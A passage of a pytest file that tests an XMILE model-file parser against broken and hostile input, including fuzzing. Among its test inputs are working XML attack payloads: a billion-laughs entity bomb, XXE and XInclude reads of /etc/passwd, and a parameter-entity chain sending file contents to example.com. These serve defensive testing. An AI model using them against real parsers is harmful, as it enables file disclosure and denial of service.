"""Hostile and broken XMILE files: one-line errors or warnings, never a traceback, no leaks.

Every input here is small, so every case is fast without timing asserts. The fuzz tests at
the end mutate real files (the conformance suite when ``../shared`` is there, and a built-in
sample always) and ask of each mutant: ``parse`` returns a document or raises
:class:`FileFormatError`, and a returned document saves and reads back equal.
"""

import random
from pathlib import Path

import pytest

from sysmap.errors import FileFormatError
from sysmap.io import _xml, load_with_warnings
from sysmap.io.xmile import dumps, parse
from sysmap.io.xmile.names import ISEE_NS, XMILE_NS
from sysmap.model import Kind

SHARED = Path(__file__).resolve().parents[3] / "shared"
SUITE = SHARED / "conformance" / "sdxorg"

SECRET_FILE = Path("/etc/passwd")
SECRET = SECRET_FILE.read_text().splitlines()[0][:12] if SECRET_FILE.is_file() else "root:x:0:0:r"

MODEL = (
    f'<xmile xmlns="{XMILE_NS}" version="1.0"><header><name>m</name></header>'
    '<model><variables><aux name="a"><eqn>1</eqn></aux></variables></model></xmile>'
)


def refused(tmp_path: Path, data: bytes, name: str = "hostile.xmile") -> FileFormatError:
    """Write ``data`` to a file, load it, and return the (one-line, file-naming) error."""
    path = tmp_path / name
    path.write_bytes(data)
    with pytest.raises(FileFormatError) as info:
        load_with_warnings(path)
    message = str(info.value)
    assert message.startswith(f"{path}:"), message
    assert "\n" not in message
    assert "Traceback" not in message
    assert SECRET not in message
    return info.value


def loaded(tmp_path: Path, data: bytes, name: str = "odd.xmile"):
    path = tmp_path / name
    path.write_bytes(data)
    doc, warnings = load_with_warnings(path)
    for warning in warnings:
        assert warning.startswith(f"{path}:"), warning
        assert "\n" not in warning
    return doc, warnings, path


# -- entities, DTDs and includes ----------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xmile [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xmile xmlns="http://docs.oasis-open.org/xmile/ns/XMILE/v1.0"><model><variables>
<aux name="a"><eqn>&lol9;</eqn></aux></variables></model></xmile>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE xmile [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<xmile xmlns="http://docs.oasis-open.org/xmile/ns/XMILE/v1.0"><header><name>&x;</name></header>
<model><variables><aux name="a"><eqn>1</eqn><doc>&x;</doc></aux></variables></model></xmile>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xmile SYSTEM "http://example.com/x.dtd">
<xmile xmlns="http://docs.oasis-open.org/xmile/ns/XMILE/v1.0"><model><variables/></model></xmile>
"""

PARAMETER_ENTITIES = b"""<?xml version="1.0"?>
<!DOCTYPE xmile [
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % eval "<!ENTITY &#x25; leak SYSTEM 'http://example.com/?%file;'>">
  %eval;
  %leak;
]>
<xmile xmlns="http://docs.oasis-open.org/xmile/ns/XMILE/v1.0"><model/></xmile>
"""


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITIES],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entities"],
)
def test_doctypes_and_entities_are_refused(tmp_path, data):
    error = refused(tmp_path, data)
    assert "DOCTYPE" in error.msg or "entity" in error.msg
    assert error.line == 2  # where the DOCTYPE is


def test_the_error_names_the_line_of_the_doctype(tmp_path):
    data = b'<?xml version="1.0"?>\n<!-- a comment -->\n\n' + EXTERNAL_DTD.split(b"\n", 1)[1]
    assert refused(tmp_path, data).line == 4


def test_a_doctype_after_a_long_comment_is_refused(tmp_path):
    data = b'<?xml version="1.0"?>\n<!--' + b"x" * 70_000 + b"-->\n" + EXTERNAL_DTD.split(b"\n", 1)[1]
    error = refused(tmp_path, data)
    assert "DOCTYPE" in error.msg


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE, EXTERNAL_DTD], ids=["laughs", "xxe", "dtd"])
def test_a_doctype_in_utf16_is_refused(tmp_path, data):
    text = data.decode().replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16"?>')
    refused(tmp_path, text.encode("utf-16"))


def test_an_undeclared_entity_is_kept_as_inert_text(tmp_path):
    data = MODEL.replace("<eqn>1</eqn>", "<eqn>1 + &x;</eqn><doc>see &passwd; here</doc>").encode()
    doc, warnings, path = loaded(tmp_path, data)
    assert len(warnings) == 1 and "repaired malformed XML" in warnings[0] and "x" in warnings[0]
    a = doc.variable_named("a")
    assert a.equation == "1 + &x;"
    assert a.documentation == "see &passwd; here"
    saved = dumps(doc)
    assert SECRET.encode() not in saved
    assert b"&amp;passwd;" in saved
    assert parse(saved, path)[0] == doc


def test_xinclude_is_never_expanded(tmp_path):
    data = (
        f'<xmile xmlns="{XMILE_NS}" xmlns:xi="http://www.w3.org/2001/XInclude" version="1.0">'
        '<header><name>m</name><xi:include href="/etc/passwd" parse="text"/></header>'
        '<model><variables><aux name="a"><eqn>1</eqn>'
        '<doc><xi:include href="file:///etc/passwd" parse="text"/></doc>'
        '<xi:include href="/etc/passwd" parse="text"/></aux></variables>'
        '<views><view><xi:include href="/etc/passwd" parse="xml"/></view></views></model>'
        '<xi:include href="/etc/passwd" parse="text"/></xmile>'
    ).encode()
    try:
        doc, _, path = loaded(tmp_path, data)
    except FileFormatError as error:  # refusing is as good as keeping it inert
        assert str(error).startswith(str(tmp_path)) and SECRET not in str(error)
        return
    assert doc.variable_named("a").equation == "1"
    saved = dumps(doc)
    assert SECRET.encode() not in saved
    assert SECRET not in repr(doc.content())
    again, _ = parse(saved, path)
    assert SECRET.encode() not in dumps(again)
    assert again == doc


# -- sizes and depths ---------------------------------------------------------------------------


def test_a_file_over_the_size_limit_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(_xml, "MAX_BYTES", 100)
    error = refused(tmp_path, MODEL.encode())
    assert "too large" in error.msg
    with pytest.raises(FileFormatError, match="too large"):
        parse(MODEL.encode(), "bytes.xmile")


def test_a_file_at_the_size_limit_loads(tmp_path, monkeypatch):
    monkeypatch.setattr(_xml, "MAX_BYTES", len(MODEL.encode()))
    doc, _, _ = loaded(tmp_path, MODEL.encode())
    assert doc.variable_named("a") is not None


@pytest.mark.parametrize("depth", [300, 100_000])
def test_deeply_nested_elements_fail_fast(tmp_path, depth):
    data = MODEL.replace("<eqn>1</eqn>", "<x>" * depth + "</x>" * depth).encode()
    error = refused(tmp_path, data)
    assert "depth" in error.msg.lower()


def test_nesting_below_the_limit_is_kept_and_round_trips(tmp_path):
    data = MODEL.replace("<eqn>1</eqn>", "<eqn>1</eqn>" + "<isee:x>" * 200 + "</isee:x>" * 200)
    data = data.replace("<xmile ", f'<xmile xmlns:isee="{ISEE_NS}" ')
    doc, _, path = loaded(tmp_path, data.encode())
    saved = dumps(doc)
    assert saved.count(b"<isee:x>") == 199  # the innermost is <isee:x/>
    again, _ = parse(saved, path)
    assert again == doc


def test_an_attribute_given_twice_keeps_the_first(tmp_path):
    data = MODEL.replace('<aux name="a">', '<aux name="a" isee:x="1" isee:x="2" color="red" color="blue">')
    data = data.replace("<xmile ", f'<xmile xmlns:isee="{ISEE_NS}" ')
    doc, warnings, path = loaded(tmp_path, data.encode())
    assert len(warnings) == 1 and "redefined" in warnings[0]
    assert doc.variable_named("a").extra.attributes == ((f"{{{ISEE_NS}}}x", "1"), ("color", "red"))
    assert parse(dumps(doc), path)[0] == doc


def test_a_namespace_name_that_is_not_a_uri_is_refused(tmp_path):
    data = MODEL.replace("<xmile ", '<xmile xmlns:odd="http://example.com/a b" ').replace(
        "<eqn>1</eqn>", "<eqn>1</eqn><odd:thing/>"
    )
    error = refused(tmp_path, data.encode())
    assert "namespace" in error.msg and "a b" in error.msg


@pytest.mark.parametrize(
    "broken",
    ["<isee: x='1'/>", '<aux name="b" isee:="1" isee:="2"/>', '<aux name="b" c="1" c="2" isee:="3"/>'],
)
def test_a_name_a_repair_left_broken_is_refused(tmp_path, broken):
    data = MODEL.replace("<eqn>1</eqn></aux>", f"<eqn>1</eqn></aux>\n{broken}")
    error = refused(tmp_path, data.encode())
    assert error.line == 2


def test_an_undeclared_sysmap_prefix_is_our_namespace(tmp_path):
    data = MODEL.replace("<eqn>1</eqn>", "<eqn>1</eqn><sysmap:tags><sysmap:tag>t</sysmap:tag></sysmap:tags>")
    doc, _, path = loaded(tmp_path, data.encode())
    assert doc.variable_named("a").tags == ("t",)


# -- not XMILE at all ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data, words",
    [
        (b"", "empty"),
        (b"   \n\t ", "start tag expected"),
        (b"hello, world", "not well-formed"),
        (b'{"variables": []}', "not well-formed"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not well-formed"),
        (b"<xmile", "no <model>"),  # repaired to an empty <xmile/>
        (b'<?xml version="1.0"?><graphml/>', "not an XMILE file"),
        (b"<html><body>hi</body></html>", "not an XMILE file"),
        (f'<xmile xmlns="{XMILE_NS}"><header/></xmile>'.encode(), "no <model>"),
        (f'<xmile xmlns="{XMILE_NS}"/>'.encode(), "no <model>"),
        (b'<xmile xmlns="urn:not-xmile"><model/></xmile>', "not an XMILE file"),
    ],
    ids=[
        "empty",
        "blank",
        "text",
        "json",
        "png",
        "cut-tag",
        "graphml",
        "html",
        "no-model",
        "empty-root",
        "other-namespace",
    ],  # fmt: skip
)
def test_files_that_are_not_xmile_are_refused(tmp_path, data, words):
    error = refused(tmp_path, data)
    assert words.lower() in str(error).lower(), str(error)


@pytest.mark.parametrize(
    "data",
    [
        MODEL.replace('name="a"', 'name="Gr\xf6\xdfe"').encode("latin-1"),
        MODEL.encode().replace(b"<eqn>1", b"<eqn>\xff\xfe\xfd"),
        MODEL.encode().replace(b"<eqn>1", b"<eqn>\xc3"),
        MODEL.encode().replace(b"<eqn>1", b"<eqn>\xed\xa0\x80"),  # a UTF-8 encoded surrogate
    ],
    ids=["latin-1", "garbage", "cut-sequence", "surrogate"],
)
def test_bytes_that_are_not_utf8_are_refused(tmp_path, data):
    error = refused(tmp_path, data)
    assert error.line == 1
    assert "encoding" in error.msg.lower() or "utf-8" in error.msg.lower()


def test_a_declared_encoding_is_honoured(tmp_path):
    text = '<?xml version="1.0" encoding="iso-8859-1"?>\n' + MODEL.replace('name="a"', 'name="Größe"')
    doc, warnings, _ = loaded(tmp_path, text.encode("latin-1"))
    assert doc.variable_named("größe") is not None
    assert warnings == []


def test_a_utf8_byte_order_mark_is_fine(tmp_path):
    doc, warnings, _ = loaded(tmp_path, b"\xef\xbb\xbf" + MODEL.encode())
    assert doc.variable_named("a") is not None and warnings == []


def test_a_missing_file_is_an_error(tmp_path):
    with pytest.raises(FileFormatError) as info:
        load_with_warnings(tmp_path / "nowhere.xmile")
    assert str(info.value).startswith(str(tmp_path / "nowhere.xmile"))


# -- broken but loadable ------------------------------------------------------------------------

UNCLOSED_FLOW = f"""<xmile xmlns="{XMILE_NS}" version="1.0">
    <model>
        <variables>
            <flow name="if_else2">
                <eqn>IF Time &gt; 10 THEN Time ELSE -Time</eqn>
                <non_negative> TruE  </non_negative>
            </flow>
            <flow name="if_else3">
                <eqn>IF Time &gt; 10 THEN Time ELSE -Time</eqn>
                <non_negative>FALSE  </non_negative>
            <stock name="TestStock2">
                <inflow>if_else2</inflow>
                <eqn>10</eqn>
            </stock>
            <stock name="TestStock3">
                <inflow>if_else3</inflow>
                <eqn>10</eqn>
            </stock>
        </variables>
    </model>
</xmile>
"""


def test_a_mismatched_closing_tag_is_repaired_with_a_warning(tmp_path):
    doc, warnings, path = loaded(tmp_path, UNCLOSED_FLOW.encode())
    assert any(w.startswith(f"{path}:19: repaired malformed XML") and "mismatch" in w for w in warnings), (
        warnings
    )
    assert [v.name for v in doc.variables.values()] == ["if_else2", "if_else3", "TestStock2", "TestStock3"]
    assert doc.variable_named("if_else2").non_negative is True
    assert doc.variable_named("if_else3").non_negative is False
    stock3 = doc.variable_named("TestStock3")
    assert stock3.kind == Kind.STOCK and stock3.equation == "10"
    assert stock3.inflows == (doc.variable_named("if_else3").id,)
    moved = [w for w in warnings if "TestStock" in w]
    assert moved[0].startswith(f"{path}:11: ") and "if_else3" in moved[0]
    assert moved[1].startswith(f"{path}:15: ")
    again, _ = parse(dumps(doc), path)
    assert again == doc


def lines(text: str, needle: str) -> int:
    return text[: text.index(needle)].count("\n") + 1


def model(variables: str, view: str = "", after: str = "") -> str:
    return (
        f'<xmile xmlns="{XMILE_NS}" version="1.0">\n<model>\n<variables>\n{variables}\n</variables>\n'
        f"<views>\n<view>\n{view}\n</view>\n</views>\n</model>\n{after}\n</xmile>\n"
    )


def test_a_file_cut_short_is_repaired_with_a_warning(tmp_path):
    text = MODEL.replace(
        "<eqn>1</eqn></aux></variables></model></xmile>", "<eqn>1</eqn>\n</aux>\n<aux name='b'>"
    )
    doc, warnings, path = loaded(tmp_path, text.encode())
    assert [v.name for v in doc.variables.values()] == ["a", "b"]
    assert len(warnings) == 1 and warnings[0].startswith(f"{path}:3: repaired malformed XML")
    assert parse(dumps(doc), path)[0] == doc


def test_elements_in_the_wrong_place_are_kept_with_a_warning(tmp_path):
    text = model(
        '<aux name="a"/>\n<connector uid="1"><from>a</from><to>a</to></connector>\n<eqn>stray</eqn>',
        '<aux name="a" x="1" y="2"/>',
    )
    doc, warnings, path = loaded(tmp_path, text.encode())
    assert warnings == [
        f"{path}:{lines(text, '<connector')}: <connector> does not belong in <variables>; kept as written",
        f"{path}:{lines(text, '<eqn>stray')}: <eqn> does not belong in <variables>; kept as written",
    ]
    saved = dumps(doc)
    assert b"<eqn>stray</eqn>" in saved
    assert parse(saved, path)[0] == doc


def test_a_legacy_file_with_a_duplicate_name(tmp_path):
    text = """<xmile xmlns="http://www.systemdynamics.org/XMILE"><model>
    <aux name="a"><eqn>1</eqn><display x="10" y="10"/></aux>
    <aux name="A"><eqn>2</eqn><display x="90" y="10"/></aux>
    <display><connector uid="0"><from>a</from><to>a</to></connector></display></model></xmile>"""
    doc, warnings, path = loaded(tmp_path, text.encode())
    assert [(v.name, v.position) for v in doc.variables.values()] == [
        ("a", (10.0, 10.0)),
        ("A (2)", (90.0, 10.0)),
    ]
    assert len(warnings) == 1 and "renamed" in warnings[0]
    assert parse(dumps(doc), path)[0] == doc


def test_a_first_empty_equation_and_more_kept_ones(tmp_path):
    text = model('<aux name="a"><eqn/><eqn>2</eqn><eqn>3</eqn></aux>')
    doc, _, path = loaded(tmp_path, text.encode())
    assert doc.variable_named("a").equation == ""
    assert parse(dumps(doc), path)[0] == doc


def test_notes_and_labels_before_connectors_keep_their_ids(tmp_path):
    text = model(
        '<aux name="a"/><aux name="b"/>',
        '<text_box uid="1" x="1" y="1">first</text_box>'
        '<sysmap:loop_label xmlns:sysmap="urn:sysmap:xmile:1" uid="2" text="R" x="5" y="5"/>'
        '<connector uid="3"><from>a</from><to>b</to></connector>'
        '<text_box uid="4" x="2" y="2">second</text_box>',
    )
    doc, _, path = loaded(tmp_path, text.encode())
    assert [n.text for n in doc.notes.values()] == ["first", "second"]
    assert parse(dumps(doc), path)[0] == doc


def test_a_group_drawing_that_cannot_be_placed_is_kept(tmp_path):
    text = model(
        '<aux name="a"/><group name="G"><entity name="a"/></group>',
        '<group name="G" x="?" y="1" width="5" height="5"/>',
    )
    doc, warnings, path = loaded(tmp_path, text.encode())
    [group] = doc.groups.values()
    assert (group.position, group.size) == (None, None)
    assert any(c.startswith("<group") for c in doc.extra("view").children)
    assert len(warnings) == 1 and "'?'" in warnings[0]
    saved = dumps(doc)
    assert b'x="?"' in saved
    assert parse(saved, path)[0] == doc


def test_a_graphical_function_without_points_round_trips(tmp_path):
    text = model(
        '<aux name="a"><gf>12</gf></aux>'
        '<aux name="b"><gf><xscale min="0" max="1"/><ypts>1,x</ypts></gf></aux>'
    )
    doc, warnings, path = loaded(tmp_path, text.encode())
    assert len(warnings) == 3
    saved = dumps(doc)
    assert b"<ypts>1,x</ypts>" in saved
    assert parse(saved, path)[0] == doc


def test_stella_style_before_the_view_is_kept_in_place(tmp_path):
    text = model('<aux name="a"/>', '<aux name="a" x="1" y="2"/>').replace(
        "<views>\n", '<views>\n<style color="black"><stock color="blue"/></style>\n'
    )
    doc, warnings, path = loaded(tmp_path, text.encode())
    assert warnings == []
    saved = dumps(doc).decode()
    assert saved.index("<style") < saved.index("<view>")
    assert '<stock color="blue"/>' in saved
    assert parse(saved.encode(), path)[0] == doc


def test_modules_that_refer_to_each_other_in_a_cycle_warn(tmp_path):
    text = model(
        '<module name="A"/>',
        after='<model name="A"><variables><module name="B"/></variables></model>\n'
        '<model name="B"><variables><module name="a"/></variables></model>\n'
        '<model name="Self"><variables><module name="self"/></variables></model>',
    )
    doc, warnings, path = loaded(tmp_path, text.encode())
    cycles = [w for w in warnings if "cycle" in w]
    assert len(cycles) == 2, warnings
    assert any("a -> b -> a" in w for w in cycles)
    assert any("self -> self" in w for w in cycles)
    assert all(w.startswith(f"{path}:") for w in cycles)
    assert [s.name for s in doc.submodels] == ["A", "B", "Self"]
    assert parse(dumps(doc), path)[0] == doc


def test_duplicate_variable_names_are_renamed_with_a_warning(tmp_path):
    text = model(
        '<aux name="Rate"><eqn>1</eqn></aux>\n<stock name="rate"><eqn>2</eqn></stock>\n<flow name="RATE"/>'
    )
    doc, warnings, path = loaded(tmp_path, text.encode())
    assert [v.name for v in doc.variables.values()] == ["Rate", "rate (2)", "RATE (3)"]
    assert warnings == [
        f"{path}:{lines(text, '<stock')}: a second variable named 'rate' is renamed 'rate (2)'",
        f"{path}:{lines(text, '<flow')}: a second variable named 'RATE' is renamed 'RATE (3)'",
    ]
    assert doc.variable_named("rate (2)").kind == Kind.STOCK
    assert parse(dumps(doc), path)[0] == doc


def test_dangling_connectors_warn_and_are_kept(tmp_path):
    text = model(
        '<aux name="a"/><aux name="b"/>',
        '<aux name="a" x="0" y="0"/><aux name="b" x="9" y="9"/>\n'
        '<connector uid="1"><from>ghost</from><to>b</to></connector>\n'
        '<connector uid="2"><from>a</from><to>phantom</to></connector>\n'
        '<connector uid="3"><from><alias uid="99"/></from><to>b</to></connector>\n'
        '<connector uid="4"><to>b</to></connector>\n'
        '<connector uid="5"/>',
    )
    doc, warnings, path = loaded(tmp_path, text.encode())
    assert not doc.links
    assert len(warnings) == 5
    for uid, warning in zip("12345", warnings, strict=True):
        line = lines(text, f'uid="{uid}"')
        assert warning.startswith(f"{path}:{line}: "), warning
        assert "kept as written" in warning
    assert "'ghost'" in warnings[0] and "'phantom'" in warnings[1]
    saved = dumps(doc)
    assert saved.count(b"<connector") == 5
    again, _ = parse(saved, path)
    assert again == doc


def test_inflows_naming_unknown_flows_warn(tmp_path):
    text = model(
        '<stock name="s"><eqn>1</eqn>\n<inflow>nowhere</inflow>\n<outflow>gone</outflow>'
        '<outflow>f</outflow></stock>\n<flow name="f"/>'
    )
    doc, warnings, path = loaded(tmp_path, text.encode())
    s = doc.variable_named("s")
    assert s.inflows == () and s.outflows == (doc.variable_named("f").id,)
    assert warnings == [
        f"{path}:{lines(text, '<inflow')}: stock 's' lists unknown inflow 'nowhere'; dropped",
        f"{path}:{lines(text, '<outflow>gone')}: stock 's' lists unknown outflow 'gone'; dropped",
    ]


def test_a_flow_listed_twice_and_by_two_stocks(tmp_path):
    text = model(
        '<stock name="a"><outflow>f</outflow><outflow>F</outflow></stock>'
        '<stock name="b"><outflow>f</outflow><inflow>f</inflow></stock><flow name="f"/>'
    )
    doc, warnings, path = loaded(tmp_path, text.encode())
    a, b, f = (doc.variable_named(n) for n in "abf")
    assert a.outflows == (f.id,)
    assert parse(dumps(doc), path)[0] == doc


@pytest.mark.parametrize(
    "variables, view",
    [
        ('<aux name=""/><aux name="  _ "/><stock/>', ""),
        ('<aux name="a"/>', '<aux x="1" y="1"/><aux name="a" x="nan" y="inf"/><aux name="a" x="2" y="2"/>'),
        ('<aux name="a"/>', '<alias uid="1"><of>a</of></alias><alias uid="2" x="1" y="1"/>'),
        ('<aux name="a"><gf/></aux><gf name="g"><ypts>1,x,3</ypts></gf>', ""),
        ('<aux name="a"><dimensions><dim/></dimensions><element/></aux>', ""),
        ('<module name="m"><connect/></module>', '<module name="m" x="1" y="1" width="-5" height="1e999"/>'),
        (
            '<aux name="a"/>',
            '<text_box/><text_box x="1e308" y="-1e308" width="1e308" height="1e308">big</text_box>',
        ),
        ('<aux name="a"/>', '<group/><group name="nobody" x="1" y="1"/>'),
        ('<aux name="a"/>', '<sysmap:loop_label xmlns:sysmap="urn:sysmap:xmile:1" direction="sideways"/>'),
        ('<group name="g"><entity/><entity name="g"/></group><aux name="g"/>', ""),
    ],
    ids=[
        "empty-names",
        "bad-positions",
        "bad-aliases",
        "bad-gf",
        "bad-arrays",
        "bad-module",
        "bad-text-box",
        "bad-groups",
        "bad-loop-label",
        "group-named-like-a-variable",
    ],  # fmt: skip
)
def test_malformed_parts_load_with_warnings_and_round_trip(tmp_path, variables, view):
    doc, warnings, path = loaded(tmp_path, model(variables, view).encode())
    saved = dumps(doc)
    again, _ = parse(saved, path)
    assert again == doc
    assert dumps(again) == saved


# -- fuzzing ------------------------------------------------------------------------------------

SAMPLE = f"""<?xml version="1.0" encoding="utf-8"?>
<xmile xmlns="{XMILE_NS}" xmlns:isee="{ISEE_NS}" xmlns:sysmap="urn:sysmap:xmile:1" version="1.0">
  <header><options namespace="std, isee"><uses_arrays maximum_dimensions="1"/></options>
    <vendor>v</vendor><product version="1">p</product><name>sample</name></header>
  <sim_specs method="Euler" time_units="Months" isee:save_interval="0.5">
    <start>0</start><stop>12</stop><dt reciprocal="true">4</dt></sim_specs>
  <model_units><unit name="people"><alias>person</alias></unit></model_units>
  <dimensions><dim name="City"><elem name="A"/><elem name="B"/></dim><dim name="N" size="3"/></dimensions>
  <behavior><non_negative/><flow><non_negative>false</non_negative></flow></behavior>
  <isee:prefs layer="model"/>
  <model>
    <variables>
      <stock name="Population"><eqn>100</eqn><inflow>births</inflow><outflow>deaths</outflow>
        <non_negative/><units>people</units><doc>How many</doc></stock>
      <flow name="births"><eqn>Population * birth_rate</eqn></flow>
      <flow name="deaths"><eqn>Population / 70</eqn></flow>
      <aux name="birth rate"><eqn>effect(Population)</eqn>
        <gf><xscale min="0" max="200"/><ypts sep=";">0.05;0.03;0.01</ypts></gf></aux>
      <gf name="effect" type="extrapolate"><xpts>0,100,200</xpts><ypts>1,0.5,0.25</ypts></gf>
      <aux name="price"><dimensions><dim name="City"/></dimensions>
        <element subscript="A"><eqn>1</eqn></element><element subscript="B"><eqn>2</eqn></element></aux>
      <aux name="Morale"><sysmap:tags><sysmap:tag>soft</sysmap:tag></sysmap:tags></aux>
      <module name="sub"><connect to="x" from=".Population"/></module>
      <group name="Core"><entity name="Population"/><entity name="births"/></group>
    </variables>
    <views>
      <view isee:zoom="100">
        <stock name="Population" x="200" y="100" width="45" height="35"/>
        <flow name="births" x="120" y="117"><pts><pt x="60" y="117"/><pt x="177" y="117"/></pts></flow>
        <flow name="deaths" x="280" y="117"><pts><pt x="222" y="117"/><pt x="340" y="117"/></pts></flow>
        <aux name="birth rate" x="100" y="200"/>
        <aux name="Morale" x="300" y="250"><shape type="name_only"/></aux>
        <module name="sub" x="400" y="300"/>
        <alias uid="3" x="50" y="300"><of>Population</of></alias>
        <connector uid="1" angle="30" polarity="+" delay_mark="true"><from>birth_rate</from><to>births</to>
          <sysmap:note>slow</sysmap:note></connector>
        <connector uid="2" angle="-45"><from>Population</from><to>deaths</to></connector>
        <connector uid="4" angle="90" polarity="-"><from><alias uid="3"/></from><to>Morale</to></connector>
        <connector uid="5"><from>Time</from><to>births</to></connector>
        <text_box uid="6" x="10" y="10" width="100" height="20">A note</text_box>
        <group name="Core" x="0" y="0" width="400" height="300"/>
        <sysmap:loop_label uid="7" text="R1" x="150" y="150" direction="anticlockwise">
          <sysmap:member>Population</sysmap:member><sysmap:member>births</sysmap:member></sysmap:loop_label>
      </view>
    </views>
  </model>
  <model name="sub"><variables><aux name="x"/><stock name="inner"><eqn>x</eqn></stock></variables></model>
</xmile>
"""

JUNK_VALUES = [
    "nan", "inf", "-inf", "1e400", "-1e400", "1e308", "-1.7976931348623157e308", "-5", "0", "-0",
    "99999999999", "1e15", "0x1F", "", " ", "abc", "1,5", "+", "?", "true", "&amp;", "&lt;x&gt;",
    "a" * 5000, "名前", "\\n", "&#10;", "&#x1F600;",
]  # fmt: skip

SNIPPETS = [
    b"<!DOCTYPE xmile>",
    b'<dim name="Big" size="99999999999"/>',
    b'<dim name="Neg" size="-5"/>',
    b"<stock/>",
    b'<stock name="s2"><inflow>nothing</inflow><outflow>births</outflow></stock>',
    b'<flow name="births"/>',
    b'<connector uid="1"><from>Population</from><to>Population</to></connector>',
    b'<connector angle="1e400"><from>births</from><to>deaths</to></connector>',
    b'<alias uid="3" x="nan"><of>births</of></alias>',
    b'<module name="sub"/>',
    b'<model name="sub"><variables><module name="sub"/></variables></model>',
    b"<gf><ypts>1,2,3</ypts><xpts>1</xpts></gf>",
    b'<element subscript="Z"><eqn>?</eqn></element>',
    b"<eqn>???</eqn>",
    b"<non_negative>maybe</non_negative>",
    b"<views/>",
    b"<variables/>",
    b'<aux name="' + b"x" * 10_000 + b'"/>',
    b"<![CDATA[ <aux name='cdata'/> ]]>",
    b"<!-- comment -->",
    b"<?pi data?>",
    b"&amp;&lt;&#65;",
    b"</variables>",
    b"<isee:foo><baz/></isee:foo>",
    b'<undeclared:foo undeclared:bar="1"/>',
    b'<sysmap:loop_label uid="9" text="B"><sysmap:member>ghost</sysmap:member></sysmap:loop_label>',
    b'<text_box uid="1" width="1e308" height="1e308" x="1e308" y="1e308">t</text_box>',
]


def _tags(data: bytes) -> list[bytes]:
    import re

    return sorted(set(re.findall(rb"<([A-Za-z_][\w:.-]*)", data)))


def mutate(data: bytes, rng: random.Random) -> tuple[bytes, str]:
    """One to three random mutations of ``data``, and what they were."""
    import re

    done = []
    for _ in range(rng.choice((1, 1, 1, 2, 3))):
        n = len(data)
        kind = rng.randrange(9)
        if n == 0:
            kind = 6
        if kind == 0:  # flip bytes
            data = bytearray(data)
            for _ in range(rng.randint(1, 4)):
                data[rng.randrange(n)] = rng.randrange(256)
            data = bytes(data)
            done.append("flip")
        elif kind == 1:  # truncate
            cut = rng.randrange(n)
            data = data[:cut]
            done.append(f"truncate@{cut}")
        elif kind == 2:  # duplicate a range
            a = rng.randrange(n)
            b = min(n, a + rng.randint(1, 400))
            data = data[:b] + data[a:b] + data[b:]
            done.append(f"dup{a}:{b}")
        elif kind == 3:  # delete a range
            a = rng.randrange(n)
            b = min(n, a + rng.randint(1, 400))
            data = data[:a] + data[b:]
            done.append(f"del{a}:{b}")
        elif kind == 4:  # swap two tag names
            tags = _tags(data)
            if len(tags) >= 2:
                one, two = rng.sample(tags, 2)
                data = (
                    data.replace(b"<" + one, b"<\0", 1)
                    .replace(b"<" + two, b"<" + one, 1)
                    .replace(b"<\0", b"<" + two, 1)
                )
                done.append(f"swap {one!r} {two!r}")
        elif kind == 5:  # junk attribute values
            values = list(re.finditer(rb'="([^"]*)"', data))
            if values:
                for match in rng.sample(values, min(len(values), rng.randint(1, 3))):
                    junk = rng.choice(JUNK_VALUES).encode()
                    data = data[: match.start(1)] + junk + data[match.end(1) :]
                    done.append(f"attr@{match.start(1)}={junk[:20]!r}")
                    break  # offsets move after the first edit
        elif kind == 6:  # insert a snippet
            at = rng.randrange(n + 1)
            snippet = rng.choice(SNIPPETS)
            data = data[:at] + snippet + data[at:]
            done.append(f"insert@{at} {snippet[:30]!r}")
        elif kind == 7:  # junk element text
            texts = list(re.finditer(rb">([^<>]+)</", data))
            if texts:
                match = rng.choice(texts)
                junk = rng.choice(JUNK_VALUES).encode()
                data = data[: match.start(1)] + junk + data[match.end(1) :]
                done.append(f"text@{match.start(1)}={junk[:20]!r}")
        else:  # a very long name
            names = list(re.finditer(rb'name="([^"]*)"', data))
            if names:
                match = rng.choice(names)
                data = data[: match.start(1)] + match.group(1) * rng.randint(50, 500) + data[match.end(1) :]
                done.append(f"long-name@{match.start(1)}")
    return data, ", ".join(done)


def check(data: bytes, what: str) -> str | None:
    """``None`` if ``data`` is handled properly, else what went wrong."""
    try:
        doc, warnings = parse(data, "fuzz.xmile")
    except FileFormatError as error:
        message = str(error)
        if not message.startswith("fuzz.xmile") or "\n" in message:
            return f"{what}: bad error message {message!r}"
        return None
    except Exception as error:
        return f"{what}: parse raised {type(error).__name__}: {error}"
    if not all(isinstance(w, str) and w.startswith("fuzz.xmile") and "\n" not in w for w in warnings):
        return f"{what}: bad warnings {warnings!r}"
    try:
        saved = dumps(doc)
        again, _ = parse(saved, "again.xmile")
